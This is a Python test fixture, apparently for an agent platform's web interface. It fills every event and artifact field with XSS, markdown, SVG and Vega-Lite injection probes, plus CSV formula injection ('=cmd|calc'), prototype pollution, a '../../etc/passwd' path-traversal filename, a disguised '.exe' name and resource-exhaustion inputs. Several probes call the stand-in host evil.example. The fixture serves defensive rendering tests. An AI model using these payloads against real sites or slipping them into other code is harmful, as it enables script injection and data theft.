"""What somebody would put into every field to make a page run it. Each probe would set `window.probed` or ask for a file."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator

from schemas import events as ev
from services.agent_worker.run import Run
from services.agent_worker.tools.tool import tool

ELSEWHERE = "http://evil.example"
"""The browser of the test finds a listener of the test there."""

MARKUP = (
    "<script>window.probed = 1</script>",
    '<img src=x onerror="window.probed = 2">',
    f"<img src='{ELSEWHERE}/markup.png'>",
    "<svg onload='window.probed = 3'></svg>",
    '<iframe srcdoc="<script>parent.probed = 4</script>"></iframe>',
    "<a href='javascript:window.probed = 5'>press</a>",
    "<form action='javascript:window.probed = 6'><button>press</button></form>",
    "<style>body { display: none } @import '" + ELSEWHERE + "/style.css';</style>",
    '<math><mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=window.probed=7>">',
    "{{constructor.constructor('window.probed = 8')()}}",
)
MARKDOWN = (
    "[press](javascript:window.probed=11)",
    "[press](JaVaScRiPt:window.probed=12)",
    "[press](data:text/html,<script>window.probed=13</script>)",
    "[press](vbscript:window.probed=14)",
    f"![tracked]({ELSEWHERE}/pixel.png?secret)",
    f"![tracked][ref]\n\n[ref]: {ELSEWHERE}/ref.png",
    f"<{ELSEWHERE}/autolink>",
    "```html\n<script>window.probed = 15</script>\n```",
    "$$\\href{javascript:window.probed=16}{press} \\htmlClass{x}{y} \\includegraphics{" + ELSEWHERE + "/tex.png}$$",
    f'```mermaid\nclick A href "{ELSEWHERE}"\n```',
)
WEB_PAGE = f"""<!doctype html><title>probe</title><link rel=stylesheet href={ELSEWHERE}/frame.css>
<script>window.probed = 21; parent.probed = 22; top.location = "{ELSEWHERE}/top"; fetch("/v1/conversations")</script>
<body onload="parent.probed = 23"><img src={ELSEWHERE}/frame.png><meta http-equiv=refresh content="0;url={ELSEWHERE}/meta">
<form action={ELSEWHERE}/form><button>send</button></form><a href={ELSEWHERE}/link target=_top>leave</a>
<a href=/ >home</a><p>the frame is shown</p>"""
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="parent.probed = 31"><script>parent.probed = 32</script>
<image href="{ELSEWHERE}/svg.png"/><foreignObject><iframe src="javascript:parent.probed=33"/></foreignObject></svg>"""
CHART = json.dumps(
    {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "description": MARKUP[1],
        "title": MARKUP[0],
        "data": {"values": [{"a": MARKUP[1], "b": 1, "u": "javascript:window.probed=41"}]},
        "transform": [{"calculate": "constructor.constructor('window.probed = 42')()", "as": "c"}],
        "mark": {"type": "point", "tooltip": True},
        "encoding": {
            "x": {"field": "a"},
            "y": {"field": "b", "type": "quantitative"},
            "href": {"field": "u"},
            "tooltip": {"field": "a"},
        },
        "usermeta": {"embedOptions": {"loader": {"baseURL": ELSEWHERE}, "actions": True, "sourceHeader": MARKUP[0]}},
    }
)
FETCHING_CHART = json.dumps(
    {"data": {"url": f"{ELSEWHERE}/data.json"}, "mark": {"type": "image", "url": f"{ELSEWHERE}/m.png"}}
)
ENDLESS_CHART = json.dumps(
    {
        "data": {"values": [{"a": 1}]},
        "transform": [{"calculate": "length(sequence(1e10))", "as": "b"}],
        "mark": "point",
        "encoding": {"x": {"field": "b", "type": "quantitative"}},
    }
)
REACHING_CHART = json.dumps(
    {
        "params": [{"name": "size", "value": 60, "bind": {"input": "range", "min": 1, "max": 99, "element": "#root"}}],
        "config": {"events": {"window": True, "selector": True, "timer": True}},
        "data": {"values": [{"a": 1, "image": f"{ELSEWHERE}/tooltip.png", "title": MARKUP[1]}]},
        "mark": {"type": "square", "size": 90_000, "tooltip": {"content": "data"}},
        "encoding": {"x": {"field": "a", "type": "quantitative"}},
    }
)
DEEP = "[" * 200_000
TURNED_NAME = "\u202egpj.exe"
"""Shown as it stands it would read `exe.jpg`."""

ALL = "\n\n".join(MARKUP + MARKDOWN)

ARTIFACTS = (
    ("page", f"page{MARKUP[1]}.html", "text/html", WEB_PAGE),
    ("drawing", "drawing.svg", "image/svg+xml", DRAWING),
    ("chart", "chart.vl.json", "application/vnd.vegalite.v5+json", CHART),
    ("chart", "fetching.vl.json", "application/vnd.vegalite.v5+json", FETCHING_CHART),
    ("chart", "endless.vl.json", "application/vnd.vegalite.v5+json", ENDLESS_CHART),
    ("chart", "reaching.vl.json", "application/vnd.vegalite.v5+json", REACHING_CHART),
    ("data", "deep.json", "application/json", DEEP),
    ("file", TURNED_NAME, "application/octet-stream", "MZ"),
    ("table", "table.csv", "text/csv", f'{MARKUP[1]},b\n"{MARKUP[0]}",=cmd|calc\n'),
    ("report", "report.md", "text/markdown", ALL),
    ("data", "data.json", "application/json", json.dumps({MARKUP[1]: ALL, "__proto__": {"probed": 61}})),
    ("other", "../../etc/passwd", "text/x-unknown", ALL),
    ("code", "code.js", "text/javascript", "window.probed = 62"),
    ("image", "image.png", "image/png", "not a picture"),
)


@tool
async def quiet(text: str) -> str:
    """Give back what came."""
    return text


async def pieces(text: str) -> AsyncIterator[str]:
    """The text cut at every few characters, so that a page meets every half-written tag."""
    for start in range(0, len(text), 7):
        yield text[start : start + 7]


async def attack(run: Run) -> None:
    """Publish a run whose every field is hostile."""
    said = await run.say(pieces(ALL))
    async with run.agent("guest", description=ALL) as guest:
        guest._emit(ev.ReasoningStarted(id="probe-r"))
        guest._emit(ev.ReasoningDelta(id="probe-r", at=0, text=ALL))
        guest._emit(ev.ReasoningEnded(id="probe-r"))
        guest._emit(ev.ToolStarted(id="probe-t", name=MARKUP[1], title=MARKUP[0]))
        guest._emit(ev.ToolArgsDelta(id="probe-t", at=0, text=MARKUP[1]))
        guest._emit(ev.ToolArgs(id="probe-t", args={MARKUP[1]: ALL, "__proto__": {"probed": 1}}))
        guest._emit(ev.ToolProgress(id="probe-t", step=MARKUP[1], percent=50, text=MARKUP[0]))
        guest._emit(ev.ToolFailed(id="probe-t", code=MARKUP[1], message=ALL))
        await guest.tool(quiet, text=ALL)
        guest.result = ALL
    run.plan(list(MARKUP))
    async with run.step(MARKUP[1]):
        run.log(ALL, "error")
    run.source("javascript:window.probed=51", title=MARKUP[1], quote=ALL)
    run.source(f"{ELSEWHERE}/source", title=MARKUP[0])
    run.set_state({MARKUP[1]: ALL})
    for kind, name, media_type, content in ARTIFACTS:
        async with run.artifact(kind, name, media_type, message=said.id) as artifact:
            await artifact.write(content)
